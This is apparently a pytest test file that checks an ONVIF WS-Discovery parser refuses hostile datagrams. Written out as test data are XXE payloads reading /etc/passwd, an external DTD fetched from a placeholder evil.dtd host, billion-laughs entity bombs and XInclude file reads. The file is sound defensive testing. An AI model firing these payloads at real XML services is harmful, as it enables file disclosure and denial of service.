"""Hostile and broken datagrams: all refused with DiscoveryError, nothing leaked."""

from __future__ import annotations

import contextlib
import random
from collections.abc import Callable

import pytest

from onvif_device.discovery import (
    MAX_DATAGRAM_BYTES,
    MAX_DEPTH,
    DiscoveryError,
    Probe,
    parse_message,
)

SOAP = "http://www.w3.org/2003/05/soap-envelope"
WSA = "http://schemas.xmlsoap.org/ws/2004/08/addressing"
D = "http://schemas.xmlsoap.org/ws/2005/04/discovery"


def probe_with(body_inner: str, prolog: str = "") -> str:
    """Test-only: a valid Probe envelope with `body_inner` inside d:Probe."""
    return (
        f'{prolog}<s:Envelope xmlns:s="{SOAP}" xmlns:a="{WSA}" xmlns:d="{D}">'
        "<s:Header><a:MessageID>urn:uuid:00000000-0000-4000-8000-00000000beef</a:MessageID></s:Header>"
        f"<s:Body><d:Probe>{body_inner}</d:Probe></s:Body></s:Envelope>"
    )


XXE_PROLOG = '<?xml version="1.0"?><!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
LAUGHS_PROLOG = (
    '<?xml version="1.0"?><!DOCTYPE s:Envelope ['
    '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10)) + "]>"
)


def deep(levels: int) -> str:
    return "<x>" * levels + "</x>" * levels


HOSTILE: list[tuple[str, bytes]] = [
    ("xxe file entity", probe_with("<d:Scopes>&xxe;</d:Scopes>", XXE_PROLOG).encode()),
    (
        "xxe in utf-16",
        probe_with("<d:Scopes>&xxe;</d:Scopes>", XXE_PROLOG.replace('"1.0"?>', '"1.0" encoding="UTF-16"?>')).encode(
            "utf-16"
        ),
    ),
    (
        "xxe parameter entity over the network",
        probe_with("", '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>').encode(),
    ),
    ("external dtd", probe_with("", '<!DOCTYPE s:Envelope SYSTEM "http://192.0.2.1/evil.dtd">').encode()),
    ("billion laughs", probe_with("<d:Scopes>&l9;</d:Scopes>", LAUGHS_PROLOG).encode()),
    (
        "billion laughs in utf-16",
        probe_with("<d:Scopes>&l9;</d:Scopes>", LAUGHS_PROLOG.replace('"1.0"?>', '"1.0" encoding="UTF-16"?>')).encode(
            "utf-16"
        ),
    ),
    ("billion laughs in an attribute", probe_with('<d:Scopes MatchBy="&l9;"/>', LAUGHS_PROLOG).encode()),
    ("undefined entity", probe_with("<d:Scopes>&xxe;</d:Scopes>").encode()),
    ("1 MB blob", probe_with("<d:Scopes>" + "a" * (1024 * 1024) + "</d:Scopes>").encode()),
    ("1 MB of zeros", bytes(1024 * 1024)),
    ("deep nesting", probe_with(deep(MAX_DEPTH + 1)).encode()),
    ("very deep nesting", probe_with(deep(8000)).encode()),
    ("empty", b""),
    ("binary", bytes(range(256))),
    ("http request", b"GET / HTTP/1.1\r\nHost: 239.255.255.250\r\n\r\n"),
    ("json", b'{"Probe": {"Types": "dn:NetworkVideoTransmitter"}}'),
    ("truncated", probe_with("")[:-20].encode()),
    ("trailing garbage", probe_with("").encode() + b"<evil/>"),
    ("xml but not soap", b'<?xml version="1.0"?><probe><types>dn:NetworkVideoTransmitter</types></probe>'),
    (
        "xinclude",
        probe_with("")
        .replace(
            "<d:Probe>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/><d:Probe>'
        )
        .encode(),
    ),
    ("undeclared prefix", b'<s:Envelope xmlns:s="' + SOAP.encode() + b'"><s:Body><d:Probe/></s:Body></s:Envelope>'),
    ("invalid utf-8", probe_with("<d:Scopes>\xff\xfe</d:Scopes>").encode("latin-1")),
]


@pytest.mark.parametrize("datagram", [h[1] for h in HOSTILE], ids=[h[0] for h in HOSTILE])
def test_hostile_datagram_is_refused_and_reveals_nothing(datagram: bytes) -> None:
    with pytest.raises(DiscoveryError) as refused:
        parse_message(datagram)
    reason = str(refused.value)
    # Safe to log: one short line, no file contents, no expanded entities.
    assert "\n" not in reason and len(reason) < 200
    assert "root:" not in reason and "haha" not in reason


def test_exact_reasons_for_the_cheap_refusals() -> None:
    def reason(datagram: bytes) -> str:
        with pytest.raises(DiscoveryError) as refused:
            parse_message(datagram)
        return str(refused.value)

    assert reason(b"") == "empty datagram"
    assert reason(bytes(MAX_DATAGRAM_BYTES + 1)) == "datagram of 65537 bytes exceeds the limit of 65536"
    assert reason(probe_with("", XXE_PROLOG).encode()) == "DOCTYPE and entity declarations are not accepted"
    utf16 = probe_with("", XXE_PROLOG.replace('"1.0"?>', '"1.0" encoding="UTF-16"?>')).encode("utf-16")
    assert reason(utf16) == "DOCTYPE and entity declarations are not accepted"
    laughs16 = probe_with("&l9;", LAUGHS_PROLOG.replace('"1.0"?>', '"1.0" encoding="UTF-16"?>')).encode("utf-16")
    assert reason(laughs16) == "DOCTYPE and entity declarations are not accepted"
    assert reason(probe_with(deep(8000)).encode()) == f"XML nested deeper than {MAX_DEPTH} levels"
    assert reason(probe_with(deep(MAX_DEPTH)).encode()) == f"XML nested deeper than {MAX_DEPTH} levels"
    assert reason(b"<probe/>") == "root element 'probe' is not a SOAP 1.2 Envelope"
    assert reason(b"not xml").startswith("not well-formed XML: ")


def test_a_datagram_of_exactly_the_limit_is_read() -> None:
    text = probe_with("")
    padded = text.replace("<d:Probe>", "<d:Probe>" + " " * (MAX_DATAGRAM_BYTES - len(text)))
    assert len(padded.encode()) == MAX_DATAGRAM_BYTES
    assert parse_message(padded.encode()) == Probe("urn:uuid:00000000-0000-4000-8000-00000000beef")


def test_nesting_up_to_the_limit_is_read() -> None:
    # Envelope, Body, Probe make 3 levels; any extension element may use the rest.
    assert isinstance(parse_message(probe_with(deep(MAX_DEPTH - 3)).encode()), Probe)


def test_every_truncation_of_a_valid_probe_is_refused(capture: Callable[[str], bytes]) -> None:
    datagram = capture("wcf_odm.xml").rstrip()
    for end in range(len(datagram)):
        with pytest.raises(DiscoveryError):
            parse_message(datagram[:end])


def test_random_corruption_raises_nothing_but_discovery_error(capture: Callable[[str], bytes]) -> None:
    rng = random.Random(3702)
    originals = [capture(name) for name in ("wcf_odm.xml", "scoped_rfc3986.xml", "wcf_resolve.xml")]
    for _ in range(2000):
        datagram = bytearray(rng.choice(originals))
        for _ in range(rng.randint(1, 4)):
            datagram[rng.randrange(len(datagram))] = rng.randrange(256)
        with contextlib.suppress(DiscoveryError):
            parse_message(bytes(datagram))
